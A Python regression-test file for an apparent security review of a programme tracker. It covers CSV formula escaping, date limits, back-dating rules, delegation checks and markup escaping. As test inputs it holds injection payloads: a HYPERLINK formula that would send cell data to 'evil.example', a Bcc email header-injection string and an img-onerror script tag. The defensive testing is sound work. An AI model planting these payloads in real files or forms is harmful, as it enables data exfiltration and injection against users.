"""The security review of issue 14: one regression test per finding, named after it, through
HTTP on SQLite and PostgreSQL. docs/security.md lists each control with the test that proves it.

Findings tested elsewhere: 4's reminder pass (tests/reminders/test_passes.py), 6 and 8's
sessions and keys (tests/pages/test_security.py).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date

from tests.api.builders import (
    ADVISER,
    DEPUTY,
    LEAD,
    OBSERVER,
    OUTSIDER,
    SPONSOR,
    given_deliverable,
    given_milestone,
    given_programme,
)
from tests.api.client import Api, person, sign_in_to_pages
from tracker.calendar import WorkingCalendar

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]


async def test_finding_2_csv_cells_that_would_run_as_a_formula_are_written_as_text(
    api: Api,
) -> None:
    key = await given_programme(api)
    for title in FORMULAS:
        await given_deliverable(api, key, title=title)
    answer = await api.get(
        f"/api/v1/programmes/{key}/closure-report", await api.as_(SPONSOR), params={"format": "csv"}
    )
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    titles = sorted(row["deliverable"] for row in rows)
    assert titles == sorted("'" + title for title in FORMULAS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


async def test_finding_3_dates_outside_the_documented_range_are_refused_not_stored(
    api: Api,
) -> None:
    key = await given_programme(api)
    lead = await api.as_(LEAD)
    milestones = f"/api/v1/programmes/{key}/milestones"
    for baseline in ("9999-12", "0001-01-01", "2200-01", "1899-12-31"):
        answer = await api.post(milestones, lead, {"title": "Far", "baseline": baseline})
        assert answer.status_code in (400, 422), (baseline, answer.text)
    early = {"title": "Old", "baseline": "2021-03", "occurred_at": "0001-01-01T00:00:00+00:00"}
    answer = await api.post(milestones, lead, early)
    assert answer.status_code == 400 and "1900-01-01" in answer.text
    # The edges of the range are taken; the programme's pages and reports still answer.
    await given_milestone(api, key, baseline="2199-12", title="Last month taken")
    report = f"/api/v1/programmes/{key}/closure-report"
    sponsor = await api.as_(SPONSOR)
    for as_of in ("2199-12-31", "1900-01-01"):
        assert (await api.get(report, sponsor, params={"as_of": as_of})).status_code == 200
    for as_of in ("9999-12-31T23:59:59-14:00", "2200-01-01", "0001-01-01T00:00:00+00:00"):
        answer = await api.get(report, sponsor, params={"as_of": as_of})
        assert answer.status_code == 400 and answer.json()["code"] == "invalid_parameter", as_of
    for path in (report, f"/api/v1/programmes/{key}/milestones.ics"):
        assert (await api.get(path, sponsor)).status_code == 200, path
    await sign_in_to_pages(api, await api.token(SPONSOR))
    for page in (f"/programmes/{key}", f"/programmes/{key}/closure-report.pdf"):
        assert (await api.client.get(page)).status_code == 200, page


async def test_finding_4_control_characters_in_names_and_titles_are_refused(api: Api) -> None:
    key = await given_programme(api)
    admin, lead = await api.admin(), await api.as_(LEAD)
    bad = "Eve\r\nBcc: mallory@evil.example"
    roster = await api.put(
        f"/api/v1/programmes/{key}/roster/{person('Eve Lowe')}",
        admin,
        {"name": bad, "title": "Sponsor", "raci": "I"},
    )
    assert roster.status_code == 400, roster.text
    for path, body in {
        "deliverables": {"title": bad, "due": "2021-03-01", "approvers": [SPONSOR]},
        "milestones": {"title": bad, "baseline": "2021-03"},
        "outcomes": {"number": 9, "title": "Tab\tin title"},
    }.items():
        answer = await api.post(f"/api/v1/programmes/{key}/{path}", lead, body)
        assert answer.status_code == 400, (path, answer.text)
    token = await api.post("/api/v1/tokens", admin, {"email": person("Eve Lowe"), "name": bad})
    assert token.status_code == 400
    # Nothing was written: the report lists only what the givens made.
    report = await api.get(f"/api/v1/programmes/{key}/closure-report", lead)
    assert report.json()["deliverables"] == []


async def test_finding_12_deeply_nested_json_is_a_400_problem(api: Api) -> None:
    key = await given_programme(api)
    nested = b"[" * 100_000 + b"]" * 100_000
    answer = await api.client.post(
        f"/api/v1/programmes/{key}/outcomes",
        content=nested,
        headers={**await api.as_(LEAD), "Content-Type": "application/json"},
    )
    assert answer.status_code in (400, 413), answer.text
    assert answer.headers["content-type"] == "application/problem+json"


async def test_finding_12_an_unknown_programme_is_404_and_a_known_one_403_to_outsiders(
    api: Api,
) -> None:
    key = await given_programme(api)
    outsider = await api.as_(OUTSIDER)
    known = await api.get(f"/api/v1/programmes/{key}/closure-report", outsider)
    unknown = await api.get("/api/v1/programmes/no-such-programme/closure-report", outsider)
    assert (known.status_code, unknown.status_code) == (403, 404)


async def test_finding_13_only_those_who_sign_appoint_a_deputy_and_only_a_registered_one(
    api: Api,
) -> None:
    key = await given_programme(api)
    path = f"/api/v1/programmes/{key}/delegations"
    stranger = person("Stan Ger")
    for_self = {"deputy": DEPUTY, "starts": "2021-01-01", "ends": "2021-06-30"}
    await api.token(DEPUTY)
    # An I signs nothing, so has nothing to delegate: no read access handed to anyone.
    informed = await api.post(path, await api.as_(OBSERVER), {**for_self, "for": OBSERVER})
    assert informed.status_code == 403
    # A C may appoint their own deputy, but only someone the tracker already knows.
    adviser = await api.as_(ADVISER)
    outsider_deputy = {**for_self, "for": ADVISER, "deputy": stranger}
    refused = await api.post(path, adviser, outsider_deputy)
    assert refused.status_code == 422 and refused.json()["code"] == "deputy_not_registered"
    assert (await api.post(path, adviser, {**for_self, "for": ADVISER})).status_code == 201
    stranger_reads = await api.get(f"/api/v1/programmes/{key}", await api.as_(stranger))
    assert stranger_reads.status_code == 403


# Finding 1: back-dating gets round authority.

CALENDAR = WorkingCalendar()


def working_days_ago(n: int) -> date:
    """The day ``n`` working days before today as the back-dating rule counts them (working
    days after it up to today: on a Saturday, Friday is 0 back)."""
    return CALENDAR.add_working_days(CALENDAR.working_day_on_or_before(date.today()), -n)


def noon(day: date) -> str:
    return f"{day.isoformat()}T12:00:00+00:00"


async def given_programme_set_up_weeks_ago(api: Api) -> str:
    """The usual programme, its roster entered by an admin as it stood 60 working days ago (an
    action dated back is judged on the roster of its day)."""
    return await given_programme(
        api, since=noon(working_days_ago(60)), reason="roster from the start-up paper"
    )


async def test_finding_1_a_deputy_cannot_date_an_approval_into_an_ended_delegation(
    api: Api,
) -> None:
    key = await given_programme_set_up_weeks_ago(api)
    admin, lead = await api.admin(), await api.as_(LEAD)
    # The lead (R) deputised for the sponsor until two working days ago.
    ended = {
        "deputy": LEAD,
        "for": SPONSOR,
        "starts": working_days_ago(30).isoformat(),
        "ends": working_days_ago(2).isoformat(),
    }
    assert (await api.post(f"/api/v1/programmes/{key}/delegations", admin, ended)).is_success
    item = await given_deliverable(api, key, planned=noon(working_days_ago(5)))
    submit = {"occurred_at": noon(working_days_ago(4))}
    assert (await api.post(f"/api/v1/deliverables/{item}/submit", lead, submit)).is_success

    dated_back = {"occurred_at": noon(working_days_ago(3))}
    answer = await api.post(f"/api/v1/deliverables/{item}/approve", lead, dated_back)
    assert answer.status_code == 409, answer.text
    assert answer.json()["code"] == "not_a_signatory"
    assert "(when recorded)" in answer.json()["detail"]
    report = await api.get(f"/api/v1/programmes/{key}/closure-report", lead)
    [row] = report.json()["deliverables"]
    assert row["state"] == "submitted" and row["approved_by"] == []


async def test_finding_1_a_sign_off_is_not_dated_before_the_submission_it_answers(
    api: Api,
) -> None:
    key = await given_programme_set_up_weeks_ago(api)
    planned = noon(working_days_ago(3))
    item = await given_deliverable(api, key, submitted=True, due="2021-03-01", planned=planned)
    sponsor = await api.as_(SPONSOR)
    yesterday = {"occurred_at": noon(working_days_ago(1))}
    early = await api.post(f"/api/v1/deliverables/{item}/approve", sponsor, yesterday)
    assert early.status_code == 422 and early.json()["code"] == "dated_before_submission"
    # "In 2019", to turn a late deliverable green: refused before the rule is even reached.
    in_2019 = {"occurred_at": "2019-06-01T12:00:00+00:00"}
    answer = await api.post(f"/api/v1/deliverables/{item}/approve", sponsor, in_2019)
    assert answer.status_code in (403, 422)
    report = await api.get(f"/api/v1/programmes/{key}/closure-report", sponsor)
    [row] = report.json()["deliverables"]
    assert row["state"] == "submitted" and row["rag"] != "green"


async def test_finding_1_a_submission_is_not_dated_before_the_item_was_planned(api: Api) -> None:
    key = await given_programme_set_up_weeks_ago(api)
    item = await given_deliverable(api, key)
    lead = await api.as_(LEAD)
    before = {"occurred_at": noon(working_days_ago(2))}
    answer = await api.post(f"/api/v1/deliverables/{item}/submit", lead, before)
    assert answer.status_code == 422 and answer.json()["code"] == "dated_before_item"


async def test_finding_1_a_roster_letter_must_have_been_held_on_the_day_an_action_is_dated(
    api: Api,
) -> None:
    key = await given_programme(api)
    newcomer = person("Nia Newcomer")
    body = {"name": "Nia Newcomer", "title": "Project manager", "raci": "R"}
    put = await api.put(f"/api/v1/programmes/{key}/roster/{newcomer}", await api.admin(), body)
    assert put.is_success
    plan = {"title": "Data migration plan", "due": "2027-03-01", "approvers": [SPONSOR]}
    dated_back = {**plan, "occurred_at": noon(working_days_ago(3))}
    nia = await api.as_(newcomer)
    answer = await api.post(f"/api/v1/programmes/{key}/deliverables", nia, dated_back)
    assert answer.status_code == 403, answer.text
    assert f"on {working_days_ago(3).isoformat()}, the day the action is dated" in answer.text
    assert (await api.post(f"/api/v1/programmes/{key}/deliverables", nia, plan)).status_code == 201


async def test_finding_1_more_than_five_working_days_back_needs_an_admin_and_a_reason(
    api: Api,
) -> None:
    key = await given_programme_set_up_weeks_ago(api)
    lead = await api.as_(LEAD)
    plan = {"title": "Paper-signed plan", "due": "2021-03-01", "approvers": [SPONSOR]}
    planned = await api.post(
        f"/api/v1/programmes/{key}/deliverables",
        await api.admin(),
        {**plan, "occurred_at": noon(working_days_ago(40)), "backdating_reason": "from minutes"},
    )
    assert planned.status_code == 201, planned.text
    item = planned.json()["id"]
    # The reason is printed in reports (a Markdown list among them): one line only.
    two_lines = {"occurred_at": noon(working_days_ago(40)), "backdating_reason": "a\n## b"}
    multi = await api.post(f"/api/v1/deliverables/{item}/submit", await api.admin(), two_lines)
    assert multi.status_code == 400, multi.text
    six_back = {"occurred_at": noon(working_days_ago(6))}
    refused = await api.post(f"/api/v1/deliverables/{item}/submit", lead, six_back)
    assert refused.status_code == 403 and refused.json()["code"] == "backdating_needs_admin"
    five_back = {"occurred_at": noon(working_days_ago(5))}
    assert (await api.post(f"/api/v1/deliverables/{item}/submit", lead, five_back)).is_success

    # The sponsor holds an admin token too: the paper sign-off goes in with its reason.
    sponsor_admin = await api.as_(SPONSOR, "admin")
    approve = f"/api/v1/deliverables/{item}/approve"
    no_reason = await api.post(approve, sponsor_admin, {"occurred_at": noon(working_days_ago(5))})
    assert no_reason.status_code == 200  # five working days back needs no reason
    report = await api.get(f"/api/v1/programmes/{key}/closure-report", lead)
    [row] = report.json()["deliverables"]
    assert row["state"] == "signed_off" and row["recorded_late"] == ""


async def test_finding_1_a_back_dated_sign_off_is_marked_in_the_report_and_its_findings(
    api: Api,
) -> None:
    key = await given_programme_set_up_weeks_ago(api)
    admin = await api.admin()
    reason = "signed on paper at the March board; minutes item 4"
    back = {"occurred_at": noon(working_days_ago(30)), "backdating_reason": reason}
    plan = {"title": "Board-signed plan", "due": "2021-03-01", "approvers": [SPONSOR]}
    planned = await api.post(f"/api/v1/programmes/{key}/deliverables", admin, {**plan, **back})
    item = planned.json()["id"]
    assert (await api.post(f"/api/v1/deliverables/{item}/submit", admin, back)).is_success
    sponsor_admin = await api.as_(SPONSOR, "admin")
    approve = f"/api/v1/deliverables/{item}/approve"
    without = await api.post(approve, sponsor_admin, {"occurred_at": back["occurred_at"]})
    assert without.status_code == 422 and without.json()["code"] == "backdating_needs_reason"
    assert (await api.post(approve, sponsor_admin, back)).status_code == 200

    report = (await api.get(f"/api/v1/programmes/{key}/closure-report", admin)).json()
    [row] = report["deliverables"]
    assert row["state"] == "signed_off"
    assert row["recorded_late"].startswith("recorded ") and row["recorded_late"].endswith("later")
    [late] = [f for f in report["data_quality"] if reason in f["message"]]
    # Planned (listed in the programme too), submitted, approved and signed off.
    assert late["code"] == "recorded_late" and late["item_ids"] == [key, item]
    assert late["message"].startswith("5 entries on 2 items, dated ")


MARKUP = '<img src=x onerror="alert(1)">'
ESCAPED = "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;"


async def test_markup_in_titles_is_text_on_pages_in_the_timeline_and_in_ical(api: Api) -> None:
    """What the review found holding, kept: a title is shown, never run (autoescape in the
    pages and the timeline's SVG, RFC 5545 escaping in the iCalendar file)."""
    key = await given_programme(api)
    await given_deliverable(api, key, title=MARKUP, submitted=True)
    await given_milestone(api, key, title=MARKUP + ";,")
    await sign_in_to_pages(api, await api.token(SPONSOR))
    for path in (f"/programmes/{key}", f"/programmes/{key}/closure-report", "/my/sign-offs"):
        answer = await api.client.get(path)
        assert answer.status_code == 200, path
        assert MARKUP not in answer.text, path
        assert ESCAPED in answer.text, path
    programme = (await api.client.get(f"/programmes/{key}")).text
    assert re.search(r'<text class="ms-title"[^>]*>&lt;img src=x', programme)  # the timeline
    ics = await api.get(f"/api/v1/programmes/{key}/milestones.ics", await api.as_(SPONSOR))
    assert "SUMMARY:" + MARKUP + "\\;\\," in ics.text.replace("\r\n ", "")
